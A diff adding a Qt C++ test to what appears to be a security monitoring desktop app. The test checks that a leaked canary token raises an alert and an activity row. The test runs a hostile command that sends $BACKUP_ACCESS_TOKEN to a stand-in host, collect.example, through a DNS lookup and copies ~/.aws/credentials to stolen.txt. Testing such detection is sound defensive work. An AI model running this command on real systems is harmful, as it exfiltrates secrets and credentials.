@@ -11,6 +11,7 @@
 #include "app/desktop/tray.h"
 #include "app/main_window.h"
 #include "tests/app/made_history.h"
+#include "tests/app/real_run.h"
 
 using namespace leadglass;
 using namespace leadglass::app;
@@ -152,6 +153,51 @@ private slots:
                 at(1, Column::Verdict, Qt::DecorationRole).value<QIcon>().pixmap(16, 16).toImage());
         page.table().setCurrentIndex(page.model().index(0, 0));
         QTRY_VERIFY_WITH_TIMEOUT(page.details().text().contains("What to do"), kLong);
+    }
+
+    void aCanaryThatARealRunLetsOutIsAnAlertAndARow() {
+        real::Home home;
+        const QString profiles = QString::fromStdString(home.places().config) + "/profiles";
+        QDir().mkpath(profiles);
+        QFile profile(profiles + "/trial.toml");
+        QVERIFY(profile.open(QIODevice::WriteOnly));
+        profile.write("schema = 1\nname = \"trial\"\nextends = \"base\"\n[output]\ncanaries = true\n");
+        profile.close();
+        for (const QString& path : {QFileInfo(profiles).path(), profiles}) {
+            QFile::setPermissions(path, QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
+        }
+        profile.setPermissions(QFile::ReadOwner | QFile::WriteOwner);
+        const auto services = home.services();
+        RunFeed runs{Services{}};
+        AlertFeed feed(runs, services);
+        feed.start();
+        QTRY_VERIFY_WITH_TIMEOUT(QFile::exists(QString::fromStdString(services.state) + "/app-alerts.json"), kLong);
+        real::Run run(home, "/usr/bin/getent hosts \"$BACKUP_ACCESS_TOKEN.collect.example\"; cp ~/.aws/credentials stolen.txt", {"--profile", "trial"});
+        QVERIFY(run.ends());
+        QVERIFY2(run.output().contains("was seen in the name *.collect.example"), run.output().constData());
+        emit runs.changed();
+        QTRY_VERIFY_WITH_TIMEOUT(feed.count() >= 2, kLong);
+        QString all;
+        for (const Alert& one : feed.alerts()) {
+            all += words::alert(one) + QLatin1Char('\n');
+        }
+        for (const char* part : {"getent", "a canary of this run", "in the name of a host", "*.collect.example", "stopped", "stolen.txt", "held back"}) {
+            QVERIFY2(all.contains(QLatin1String(part)), qPrintable(all));
+        }
+        QVERIFY2(!all.contains("glpat-"), qPrintable(all));
+        ActivityPage page(services);
+        page.show();
+        QTRY_VERIFY_WITH_TIMEOUT(page.model().rowCount() > 0 && page.model().lineAt(0) != nullptr, kLong);
+        const auto rowWith = [&](const QString& words) {
+            for (int row = 0; row < page.model().rowCount(); ++row) {
+                if (page.model().index(row, static_cast<int>(Column::Why)).data().toString().contains(words)) {
+                    return row;
+                }
+            }
+            return -1;
+        };
+        QTRY_VERIFY_WITH_TIMEOUT(rowWith("in the name of a host") >= 0, kLong);
+        QVERIFY(page.model().index(rowWith("in the name of a host"), static_cast<int>(Column::Process)).data().toString().contains("getent"));
     }
 
     void theTraySaysSoBeforeAnythingElse() {
